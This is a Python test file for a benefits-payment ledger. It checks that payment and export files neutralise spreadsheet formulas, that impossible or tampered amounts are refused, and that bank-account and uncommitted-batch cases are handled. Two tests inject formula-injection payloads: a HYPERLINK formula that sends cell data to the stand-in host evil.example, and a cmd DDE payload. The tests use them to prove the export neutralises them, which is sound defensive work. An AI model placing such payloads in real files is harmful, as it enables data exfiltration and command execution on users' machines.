"""Issue 9: what must never be paid, and what a payment file must never contain — on SQLite and PostgreSQL.

Every test reproduces an attack or accident that paid money wrongly (or hid it) before.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import polars as pl
import pytest
import sqlalchemy as sa
from ledger_helpers import account_for, count, give_accounts, match, seed_approved

from jiuye import audit
from jiuye.audit.keys import ANCHOR_FILE, audit_dir
from jiuye.cli import main
from jiuye.db import get_engine, write_session
from jiuye.errors import UserError
from jiuye.ledger import payment_file
from jiuye.ledger.models import entitlements, payment_batches, payments
from jiuye.ledger.service import (
    _seal_rows,
    approve_month,
    bank_return,
    held_lines,
    pay,
    reverse,
    review,
    waiting_lines,
)
from jiuye.registry.models import TABLES
from tests.factories.matching import js02_population

DEC = dt.date(2023, 12, 1)
MAR = dt.date(2023, 3, 1)


def _ids(url: str, *where: sa.ColumnElement[bool]) -> list[int]:
    with get_engine(url).connect() as c:
        return [int(x) for x in c.execute(sa.select(entitlements.c.id).where(*where).order_by(entitlements.c.id)).scalars()]


def _sql(url: str, stmt: sa.Executable) -> None:
    """What an insider (or a careless script) does directly in the database."""
    with get_engine(url).begin() as c:
        c.execute(stmt)


def _set_person(url: str, beneficiary: str, **values: object) -> None:
    persons = TABLES["persons"]
    _sql(url, sa.update(persons).where(persons.c.id_number == beneficiary).values(**values))


def _found(url: str, people: int = 2) -> list[str]:
    facts = js02_population(people)
    ids = facts.persons["id"].to_list()
    give_accounts(url, ids)
    match(url, facts, dt.date(2023, 1, 1), MAR)
    return ids


# --- (1) formulas ------------------------------------------------------------------------------------


def test_payment_file_never_holds_a_live_formula(migrated_db_url: str, tmp_path: Path) -> None:
    import openpyxl

    url, tmp_path = migrated_db_url, tmp_path / "out"
    people = _found(url, 2)
    evil = '=HYPERLINK("http://evil.example/?"&B2,"张三")'
    _set_person(url, people[0], name=evil)  # a name that reached the registry before import checked names
    with write_session(url) as s:
        approve_month(s, MAR, "测试员")
    with write_session(url) as s:
        batch = pay(s, MAR, "出纳", tmp_path)
    rows = list(csv.reader(batch.files[0].open(encoding="utf-8-sig")))
    names = [r[0] for r in rows[1:3]]
    assert "'" + evil in names and evil not in names  # neutralised (OWASP): shown as text, never run
    live = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == [], live
    book = openpyxl.load_workbook(batch.files[1])
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type == "s" for c in cells)  # every cell a string: no formula ("f"), no number
    assert evil in [c.value for c in cells]  # the text itself, inert


def test_csv_export_neutralises_formula_cells(migrated_db_url: str, tmp_path: Path) -> None:
    url = migrated_db_url
    people = _found(url, 1)
    _set_person(url, people[0], name="@SUM(1+1)*cmd|' /C calc'!A0", address="-2+3")
    out = tmp_path / "persons.csv"
    assert main(["export", "persons", "--db", url, "--out", str(out)]) == 0
    row = next(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert row["姓名"] == "'@*"  # masked (张*), and what is left still neutralised
    assert main(["export", "persons", "--db", url, "--out", str(out), "--unmasked", "--reason", "公式防护核对"]) == 0
    row = next(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert row["姓名"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row["居住地址"] == "'-2+3"


# --- (6) impossible amounts -------------------------------------------------------------------------------


def test_amount_outside_the_measure_bound_or_not_positive_is_never_approved(migrated_db_url: str) -> None:
    url = migrated_db_url
    _found(url, 2)
    ids = _ids(url)
    # JS-02 pays 1000 yuan a month (bound 1000 yuan); a wrapped or pasted amount, zero and a negative line
    for i, fen in zip(ids[:3], (98_765_432_100, 0, -1), strict=True):
        _sql(url, sa.update(entitlements).where(entitlements.c.id == i).values(amount_fen=fen))
    with write_session(url) as s:
        assert approve_month(s, MAR, "测试员") == {"JS-02": len(ids) - 3}
        held = held_lines(s, MAR)
        assert [h["id"] for h in held] == ids[:3] and "合理上限" in str(held[0]["reason"])
        for i in ids[:3]:
            with pytest.raises(UserError, match="不能核准"):
                review(s, i, "approve", "审核员", "看过了")
    assert _ids(url, entitlements.c.state == "found") == ids[:3]


def test_pay_leaves_out_of_bound_and_non_positive_lines_waiting(migrated_db_url: str, tmp_path: Path) -> None:
    url, tmp_path = migrated_db_url, tmp_path / "out"
    tmp_path.mkdir()
    assert seed_approved(url, 2) == 24
    ids = _ids(url)
    # approved and sealed with amounts pay must still refuse (e.g. a bound lowered after approval)
    with write_session(url) as s:
        for i, fen in zip(ids[:2], (100_001, -1), strict=True):
            s.execute(sa.update(entitlements).where(entitlements.c.id == i).values(amount_fen=fen))
        _seal_rows(s, ids[:2])
    with write_session(url) as s:
        batch = pay(s, DEC, "出纳", tmp_path)
    assert batch.lines == 22 and {w["id"] for w in batch.waiting} == set(ids[:2])
    assert _ids(url, entitlements.c.state == "approved") == ids[:2]
    assert count(url, payments, payments.c.amount_fen <= 0) == 0


def test_negative_amounts_are_formatted_with_their_sign() -> None:
    frame = pl.DataFrame({"fen": [-1, -199, 0, 1, 123456]})
    # the payment file formats through rules.money (−1 fen was written as "-1.99" before)
    assert frame.select(payment_file.yuan_text(pl.col("fen")).alias("t"))["t"].to_list() == [
        "-0.01", "-1.99", "0.00", "0.01", "1234.56"]  # fmt: skip
    assert [payment_file.fen_to_plain_text(f) for f in (-1, -100, 5)] == ["-0.01", "-1.00", "0.05"]


# --- (7) amounts changed behind the audit trail ------------------------------------------------------------


def test_pay_refuses_a_line_whose_amount_was_changed_directly(migrated_db_url: str, tmp_path: Path) -> None:
    url, tmp_path = migrated_db_url, tmp_path / "out"
    tmp_path.mkdir()
    seed_approved(url, 2)
    victim = _ids(url)[5]
    _sql(url, sa.update(entitlements).where(entitlements.c.id == victim).values(amount_fen=99_999))
    with pytest.raises(UserError, match="封签") as err, write_session(url) as s:
        pay(s, DEC, "出纳", tmp_path)
    assert err.value.code == 8 and str(victim) in str(err.value)
    assert count(url, payments) == 0 and not list(tmp_path.iterdir())


def test_batch_records_the_audit_head_and_anchors_it(migrated_db_url: str, tmp_path: Path) -> None:
    url, tmp_path = migrated_db_url, tmp_path / "out"
    tmp_path.mkdir()
    seed_approved(url, 1)
    with write_session(url) as s:
        batch = pay(s, DEC, "出纳", tmp_path)
    with get_engine(url).connect() as c:
        b = c.execute(sa.select(payment_batches)).mappings().one()
        head = c.execute(sa.text("SELECT seq, hash FROM audit_head")).one()
    assert (b["audit_seq"], b["audit_hash"]) == batch.audit_head == (int(head[0]), head[1])
    anchors = [json.loads(x) for x in (audit_dir(url) / ANCHOR_FILE).read_text(encoding="utf-8").splitlines()]
    assert [(a["seq"], a["hash"]) for a in anchors] == [batch.audit_head] and "发放批次" in anchors[0]["by"]
    with write_session(url) as s:
        assert audit.verify(s).ok


# --- (9) bank accounts and bank returns ---------------------------------------------------------------


def test_no_bank_account_no_payment(migrated_db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url, tmp_path = migrated_db_url, tmp_path / "out"
    tmp_path.mkdir()
    people = js02_population(3).persons["id"].to_list()
    give_accounts(url, people, {people[0]: None, people[1]: ""})
    assert seed_approved(url, 3) == 36
    assert main(["pay", "--db", url, "--month", "2023-12", "--out", str(tmp_path)]) == 0
    err = capsys.readouterr().err
    assert "无银行账号" in err and "共 24 条已核准待遇本次未发放" in err
    assert count(url, payments) == 12 and count(url, payments, payments.c.bank_account == "") == 0
    with write_session(url) as s:
        assert len(waiting_lines(s, DEC)) == 24
    assert count(url, entitlements, entitlements.c.state == "approved") == 24


def test_bank_return_is_paid_again_only_after_the_account_is_corrected(migrated_db_url: str, tmp_path: Path) -> None:
    url = migrated_db_url
    seed_approved(url, 1)
    with write_session(url) as s:
        pay(s, DEC, "出纳", tmp_path / "1")
    with get_engine(url).connect() as c:
        first = c.execute(sa.select(payments).order_by(payments.c.id)).mappings().first()
    assert first is not None
    with write_session(url) as s:
        bank_return(s, int(first["id"]), "出纳", "账号不存在")
        with pytest.raises(UserError, match="银行退票"):  # a return is not a clawback
            reverse(s, int(first["id"]), "出纳", "追回")
    assert count(url, entitlements, entitlements.c.state == "returned") == 1
    with pytest.raises(UserError, match="没有已核准") as err, write_session(url) as s:
        pay(s, DEC, "出纳", tmp_path / "2")  # the same wrong account: the line waits
    assert err.value.code == 6
    new_account = account_for(999)
    _set_person(url, str(first["beneficiary"]), bank_account=new_account)
    with write_session(url) as s:
        again = pay(s, DEC, "出纳", tmp_path / "3")
    assert again.lines == 1
    with get_engine(url).connect() as c:
        rows = c.execute(sa.select(payments.c.state, payments.c.bank_account)
                         .where(payments.c.entitlement_id == first["entitlement_id"]).order_by(payments.c.id)).all()
    assert [tuple(r) for r in rows] == [("returned", first["bank_account"]), ("paid", new_account)]
    assert count(url, entitlements, entitlements.c.state == "paid") == 12
    with write_session(url) as s:
        assert audit.verify(s).ok


# --- (3) payment files of uncommitted batches -------------------------------------------------------------


def test_files_get_their_names_only_after_the_commit(migrated_db_url: str, tmp_path: Path) -> None:
    url, tmp_path = migrated_db_url, tmp_path / "out"
    tmp_path.mkdir()
    seed_approved(url, 1)
    with pytest.raises(RuntimeError), write_session(url) as s:
        batch = pay(s, DEC, "出纳", tmp_path)
        inside = sorted(p.name for p in tmp_path.iterdir())
        assert inside and all(n.startswith(".") and n.endswith(".partial") for n in inside)
        raise RuntimeError("数据库在提交前出错")
    assert not list(tmp_path.iterdir())  # nothing left that looks payable
    assert count(url, payment_batches) == 0
    with write_session(url) as s:
        batch = pay(s, DEC, "出纳", tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(f.name for f in batch.files)
    assert all(f"_{batch.id}_2023-12_{batch.token}." in f.name for f in batch.files)


def test_pay_refuses_a_folder_holding_a_file_of_an_uncommitted_batch(migrated_db_url: str, tmp_path: Path) -> None:
    url, tmp_path = migrated_db_url, tmp_path / "out"
    tmp_path.mkdir()
    seed_approved(url, 1)
    void = tmp_path / payment_file.final_name(1, DEC, "0123456789abcdef0123456789abcdef", "csv")
    void.write_text("作废", encoding="utf-8")
    stale = tmp_path / f".{payment_file.final_name(1, DEC, 'fedcba9876543210fedcba9876543210', 'xlsx')}.partial"
    stale.write_text("半截", encoding="utf-8")
    with pytest.raises(UserError, match="未提交") as err, write_session(url) as s:
        pay(s, DEC, "出纳", tmp_path)
    assert err.value.code == 5 and void.name in str(err.value)
    void.unlink()
    with write_session(url) as s:
        batch = pay(s, DEC, "出纳", tmp_path)
    assert not stale.exists() and sorted(p.name for p in tmp_path.iterdir()) == sorted(f.name for f in batch.files)
